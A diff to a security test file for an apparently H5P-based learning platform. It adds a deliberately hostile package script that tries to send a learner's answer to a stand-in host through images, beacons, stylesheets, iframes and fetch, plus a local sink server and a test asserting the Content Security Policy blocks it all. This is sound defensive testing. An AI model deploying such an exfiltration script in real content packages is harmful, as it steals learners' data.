@@ -56,7 +56,38 @@ H5P.Evil.prototype.attach = function ($container) {
 """
 
 
-def evil_package() -> bytes:
+EXFIL_JS = r"""
+var H5P = H5P || {};
+H5P.Evil = function () {};
+H5P.Evil.prototype.attach = function ($container) {
+  var sink = 'http://127.0.0.1:__PORT__/';
+  var report = {violations: []};
+  document.addEventListener('securitypolicyviolation', function (e) { report.violations.push(e.effectiveDirective); });
+  var el = document.createElement('pre');
+  el.id = 'evil-report';
+  $container.get(0).appendChild(el);
+  function show() { el.textContent = JSON.stringify(report); }
+  function attempt(name, fn) { try { fn(); report[name] = 'sent'; } catch (e) { report[name] = String(e && e.name); } }
+  attempt('image', function () { new Image().src = sink + 'image?answer=geheim'; });
+  attempt('beacon', function () { navigator.sendBeacon(sink + 'beacon', 'answer=geheim'); });
+  attempt('style', function () {
+    var link = document.createElement('link'); link.rel = 'stylesheet'; link.href = sink + 'style';
+    document.head.appendChild(link);
+  });
+  attempt('frame', function () {
+    var f = document.createElement('iframe'); f.src = sink + 'frame'; document.body.appendChild(f);
+  });
+  Promise.all([
+    fetch(sink + 'fetch?answer=geheim', {method: 'POST', body: 'geheim', mode: 'no-cors'})
+      .then(function () { report.fetch = 'sent'; }, function (e) { report.fetch = String(e && e.name); }),
+    fetch(location.protocol + '//' + location.host + '/h5p/dateien/libraries/H5P.Evil-1.0/library.json')
+      .then(function (r) { report.own = String(r.status); }, function (e) { report.own = String(e && e.name); })
+  ]).then(function () { setTimeout(function () { report.done = true; show(); }, 500); });
+};
+"""
+
+
+def evil_package(script: str = EVIL_JS) -> bytes:
     return (
         H5PPackageBuilder()
         .h5p_json(
@@ -81,7 +112,7 @@ def evil_package() -> bytes:
                 "preloadedJs": [{"path": "evil.js"}],
             },
         )
-        .add_file("H5P.Evil-1.0/evil.js", EVIL_JS)
+        .add_file("H5P.Evil-1.0/evil.js", script)
         .build()
     )
 
@@ -184,3 +215,56 @@ def test_h5p_activity_page_has_no_wcag_violations(browser, axe, live_server, org
         browser.set_window_size(width, 900)
         axe(live_server.url + page.url)
     browser.set_window_size(1280, 900)
+
+
+SINK_PORT = 8121  # this helper's port block (COORDINATION.md)
+
+
+@pytest.fixture
+def sink():
+    """A foreign host on 127.0.0.1 that records every request the package manages to send."""
+    import http.server
+    import threading
+
+    hits: list[str] = []
+
+    class Recorder(http.server.BaseHTTPRequestHandler):
+        def _record(self):
+            hits.append(f"{self.command} {self.path}")
+            self.send_response(204)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        do_GET = do_POST = do_OPTIONS = _record
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", SINK_PORT), Recorder)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield hits
+    server.shutdown()
+    server.server_close()
+
+
+def test_package_script_cannot_send_answers_to_another_host(browser, live_server, org_tree, make_member, sink):
+    from selenium.webdriver.common.by import By
+
+    learner = make_member(org_tree["garching"])
+    script = EXFIL_JS.replace("__PORT__", str(SINK_PORT))
+    evil = h5p_content_import(file=io.BytesIO(evil_package(script)), filename="evil.h5p")
+    page = h5p_activity_page(content=evil)
+    login(browser, live_server, learner)
+    browser.get(live_server.url + page.url)
+
+    enter_h5p(browser)
+    report_el = wait_for(lambda: browser.find_elements(By.ID, "evil-report"), message="evil script did not run")[0]
+    report = json.loads(wait_for(lambda: '"done":true' in report_el.text and report_el.text, message="no report"))
+    time.sleep(1.0)  # anything in flight would have arrived by now
+    browser.switch_to.default_content()
+
+    assert sink == [], f"the package reached another host: {sink}"
+    assert report["fetch"] == "TypeError"  # refused by connect-src
+    assert report["own"] == "200"  # the content origin still answers (the player needs it)
+    assert {"img-src", "connect-src", "style-src-elem", "frame-src"} <= set(report["violations"]), report
